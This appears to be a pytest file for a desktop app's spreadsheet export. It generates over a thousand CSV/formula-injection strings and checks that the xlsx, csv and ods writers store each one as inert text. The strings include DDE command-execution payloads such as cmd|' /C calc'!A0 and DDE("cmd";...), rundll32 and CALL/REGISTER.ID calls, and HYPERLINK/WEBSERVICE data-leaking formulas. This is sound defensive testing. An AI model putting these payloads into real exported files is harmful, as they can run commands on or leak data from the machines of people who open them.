"""A thousand texts that a spreadsheet might calculate or run: each stays text in everything that is written."""

import csv
import zipfile
from itertools import product
from pathlib import Path

import openpyxl
import pytest

from bri_desktop.excel.reader import read
from bri_desktop.excel.sheet_text import clean
from bri_desktop.excel.writer import ExportColumn, write_ledger

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "'=",
    "''=",
    "=+",
    "-+",
    "@@",
    "|",
    "%",
    "\x00=",
    "＝",
    "\ufeff=",
)
BODIES = (
    "1+1", "cmd|' /C calc'!A0", 'DDE("cmd";"/C calc";"1")', 'HYPERLINK("http://x.test/?q="&A1,"点此")', "SUM(A1:A9)",
    "A1", "2+5+cmd|' /C notepad'!'A1'", "IMPORTXML(CONCAT(A1))", "WEBSERVICE(A1)", "MSEXCEL|'\\..\\..\\calc'!A0",
    "rundll32|x", "{=1}", '"a","b"', "1;2", "1\t2", "第一行\n=1+1", "a,=1+1", "+1", "-1", "@SUM(1)", "1e5", "TRUE",
    "2017-05-17", "{=A1}", "'x'", "_x003D_1", "<f>1</f>", "]]>", "&quot;=1", 'INDIRECT("R1C1",0)', 'EXEC("x")',
    'CALL("k","W","J",0)', "REGISTER.ID(1)", "file:///x", "\\\\host\\x", "0x41", "١", "甲", "%0A=1", "||", "=", "==",
    "=-", "+-@", "@", "-", "+", '=""', '="00123"', '"', '""', 'a"=b', "x y", "🤝", "中文公式()", "NOW()",
)  # fmt: skip
TEXTS = [start + body for start, body in product(STARTS, BODIES)]
COLUMNS = [ExportColumn("title", "项目名称", 30), ExportColumn("note", "备注", 30, "text", ("甲", "乙"))]


def test_there_are_a_thousand() -> None:
    assert len(set(TEXTS)) >= 1000


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("injection")
    for suffix in ("xlsx", "csv", "ods"):
        rows = ([text, text] for text in TEXTS)
        write_ledger(folder / f"a.{suffix}", title="=1+1", columns=COLUMNS, rows=rows)
    return folder


@pytest.mark.parametrize("suffix", ["xlsx", "csv", "ods"])
def test_our_own_import_gives_them_back(folder: Path, suffix: str) -> None:
    with read(folder / f"a.{suffix}") as grid:
        rows = dict(grid.rows(0))
        assert grid.sheets[0].errors == ()
    # A line break inside a csv cell is no row of its own, so that the numbers agree in all three.
    for number, text in enumerate(TEXTS, 2):
        assert rows[number] == (clean(text), clean(text)), text


def test_no_formula_and_no_number_in_the_workbook(folder: Path) -> None:
    sheet = openpyxl.load_workbook(folder / "a.xlsx").worksheets[0]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type == "s"
            if str(cell.value)[:1] in ("=", "+", "-", "@", "\t"):
                assert cell.quotePrefix
    with zipfile.ZipFile(folder / "a.xlsx") as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert all(b"<f>" not in part and b"<f " not in part for part in parts.values())
    assert not any("external" in name or "hyperlink" in name for name in parts)


def test_no_formula_in_the_open_document(folder: Path) -> None:
    with zipfile.ZipFile(folder / "a.ods") as archive:
        content = archive.read("content.xml")
    assert b"table:formula" not in content
    assert b"xlink:href" not in content


def test_no_cell_of_the_text_starts_a_formula(folder: Path) -> None:
    with (folder / "a.csv").open(encoding="utf-8-sig", newline="") as stream:
        for row in csv.reader(stream):
            assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in row)
